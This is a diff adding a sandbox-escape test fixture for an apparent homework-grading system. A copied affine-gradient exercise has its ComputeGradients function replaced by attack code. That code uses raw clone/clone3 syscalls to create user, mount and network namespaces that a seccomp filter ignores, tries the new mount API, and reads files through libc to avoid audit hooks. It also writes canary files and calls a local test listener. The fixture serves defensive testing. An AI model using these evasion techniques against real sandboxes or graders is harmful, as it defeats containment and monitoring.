@@ -1,0 +1,224 @@
+"""Attack `userns_clone`: the hw2_affine reference with ComputeGradients replaced by the attack.
+
+New namespaces without unshare(): raw clone() and clone3() with
+CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET (flags the seccomp filter does not
+look at). The child reports the capabilities it holds there and tries the new
+mount API (fsopen/fsmount/move_mount), which the filter does not list either.
+
+Graded by tests/integration/test_attacks.py, which fills in the @...@ placeholders.
+"""
+from __future__ import annotations
+
+import numpy as np
+
+
+def affine_parameters():
+    W1 = np.array([[1.0, 2.0], [0.0, 1.0], [-1.0, 0.0]])
+    b1 = np.array([[0.0], [0.0], [3.0]])
+    W2 = np.array([[1.0, -2.0, 0.25]])
+    b2 = np.array([[0.0]])
+    return W1, b1, W2, b2
+
+
+def AffineTransformation(W, b, x):
+    return W @ x + b
+
+
+def Composition(L, x):
+    activations = []
+    z = x
+    for W, b in L:
+        z = AffineTransformation(W, b, z)
+        activations.append(z)
+    return activations
+
+
+def f_of_g(x):
+    W1, b1, W2, b2 = affine_parameters()
+    return Composition([(W1, b1), (W2, b2)], x)[-1]
+
+
+def part5_derivatives(z1):
+    """dz2/dvec(W2) at z1 is z1^T; dz2/db2 is 1."""
+    return np.asarray(z1, dtype=float).reshape(1, -1), np.array([[1.0]])
+
+
+def part6_derivative(x):
+    """d(f o g)/dz1 is W2^T, whatever x is."""
+    return affine_parameters()[2].T
+
+
+def part7_gradients(x):
+    """(d(f o g)/db1, grad_W1 (f o g)) at x: W2^T and W2^T x^T."""
+    W2 = affine_parameters()[2]
+    x = np.asarray(x, dtype=float).reshape(-1, 1)
+    return W2.T, W2.T @ x.T
+
+
+# ------------------------------ the attack ------------------------------
+
+import ctypes
+import os
+import socket
+import struct
+import time
+
+TOKEN = "@TOKEN@"
+MARK = f"atk-{TOKEN}".encode()
+"""Every process this file starts carries this name, so the test finds survivors."""
+PORT = int("@PORT@")
+"""A TCP listener and a UDP socket of the test's, on 127.0.0.1."""
+CANARIES = @CANARIES@
+"""Paths outside the working folder that must never appear."""
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+AS_ROOT = os.geteuid() == 0
+"""Root on the real machine (no namespaces, no uid drop): attacks that would hit every
+process or the machine's mounts hold back, since the tests run on that machine too."""
+PROTECTED = {int(pid) for pid in "@PROTECT@".split(",") if pid.strip()}
+"""The test runner's pid: never signalled or traced by a process that is root."""
+
+
+def say(*parts):
+    print("ATK", *parts, flush=True)
+
+
+def errno_text():
+    return os.strerror(ctypes.get_errno())
+
+
+def name_me():
+    libc.prctl(15, ctypes.c_char_p(MARK), 0, 0, 0)  # PR_SET_NAME
+
+
+def once(tag):
+    """True the first time in a grading run (the working folder outlives restarts)."""
+    flag = f".once-{tag}"
+    if os.path.exists(flag):
+        return False
+    with open(flag, "w"):
+        pass
+    return True
+
+
+def libc_read(path, limit=1 << 20):
+    """A file's bytes through libc's open (no Python open, so no audit event), or None."""
+    fd = libc.open(os.fsencode(path), os.O_RDONLY)
+    if fd < 0:
+        return None
+    try:
+        data = b""
+        while len(data) < limit:
+            chunk = os.read(fd, 65536)
+            if not chunk:
+                break
+            data += chunk
+        return data
+    except OSError:
+        return None
+    finally:
+        os.close(fd)
+
+
+def write_canaries():
+    written = []
+    for path in CANARIES:
+        fd = libc.open(os.fsencode(path), os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)
+        if fd >= 0:
+            libc.write(fd, MARK + b"\n", len(MARK) + 1)
+            libc.close(fd)
+            written.append(path)
+    return written
+
+
+def _address():
+    return struct.pack("=H", socket.AF_INET) + struct.pack(">H", PORT) + bytes([127, 0, 0, 1]) + bytes(8)
+
+
+def libc_connect():
+    fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
+    if fd < 0:
+        return f"socket: {errno_text()}"
+    address = _address()
+    ok = libc.connect(fd, address, len(address))
+    result = "connected" if ok == 0 else errno_text()
+    if ok == 0:
+        libc.send(fd, MARK, len(MARK), 0)
+    libc.close(fd)
+    return result
+
+
+def libc_sendto():
+    fd = libc.socket(socket.AF_INET, socket.SOCK_DGRAM, 0)
+    if fd < 0:
+        return f"socket: {errno_text()}"
+    address = _address()
+    sent = libc.sendto(fd, MARK, len(MARK), 0, address, len(address))
+    result = "sent" if sent > 0 else errno_text()
+    libc.close(fd)
+    return result
+
+
+def haunt(seconds=6.0):
+    """A daemon's life: keep writing the canaries and calling the listener, so one
+    that outlives its grading is caught in the act; never return."""
+    try:
+        name_me()
+        end = time.monotonic() + seconds
+        while time.monotonic() < end:
+            write_canaries()
+            libc_connect()
+            libc_sendto()
+            time.sleep(0.1)
+    finally:
+        os._exit(0)
+
+
+def wrong_answer(L):
+    """Right shapes, wrong values: what the attacked function returns when the attack fails."""
+    import numpy as np
+
+    return [(np.zeros(np.shape(W)), np.zeros((np.shape(W)[0], 1))) for W, _ in L]
+
+CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWNET = 0x10000000, 0x00020000, 0x40000000
+
+
+class CloneArgs(ctypes.Structure):
+    _fields_ = [(name, ctypes.c_uint64) for name in ("flags", "pidfd", "child_tid", "parent_tid", "exit_signal",
+                                                      "stack", "stack_size", "tls", "set_tid", "set_tid_size",
+                                                      "cgroup")]
+
+
+def inside(how):
+    """In the child: what the new namespaces give."""
+    try:
+        name_me()
+        capabilities = [line.split()[1] for line in open("/proc/self/status") if line.startswith("CapEff")][0]
+        fs = libc.syscall(430, b"tmpfs", 0)  # fsopen
+        mounted = "no"
+        if fs >= 0 and libc.syscall(431, fs, 6, None, None, 0) == 0:  # fsconfig(FSCONFIG_CMD_CREATE)
+            mount = libc.syscall(432, fs, 0, 0)  # fsmount
+            if mount >= 0 and libc.syscall(429, mount, b"", -100, b"/tmp", 4) == 0:  # move_mount, EMPTY_PATH
+                mounted = "MOUNTED tmpfs on /tmp"
+        say(how, "NEWUSERNS capabilities", capabilities, "fsopen", fs, mounted)
+    finally:
+        os._exit(0)
+
+
+def ComputeGradients(L, x, z):
+    if AS_ROOT or not once("clone"):
+        return None
+    pid = libc.syscall(56, CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET | 17, 0, 0, 0, 0)  # clone, SIGCHLD
+    if pid == 0:
+        inside("clone")
+    say("clone(CLONE_NEWUSER|CLONE_NEWNS|CLONE_NEWNET) ->", pid if pid > 0 else errno_text())
+    if pid > 0:
+        libc.waitpid(pid, None, 0)
+    args = CloneArgs(flags=CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET, exit_signal=17)
+    pid = libc.syscall(435, ctypes.byref(args), ctypes.sizeof(args))
+    if pid == 0:
+        inside("clone3")
+    say("clone3(CLONE_NEWUSER|CLONE_NEWNS|CLONE_NEWNET) ->", pid if pid > 0 else errno_text())
+    if pid > 0:
+        libc.waitpid(pid, None, 0)
+    return None
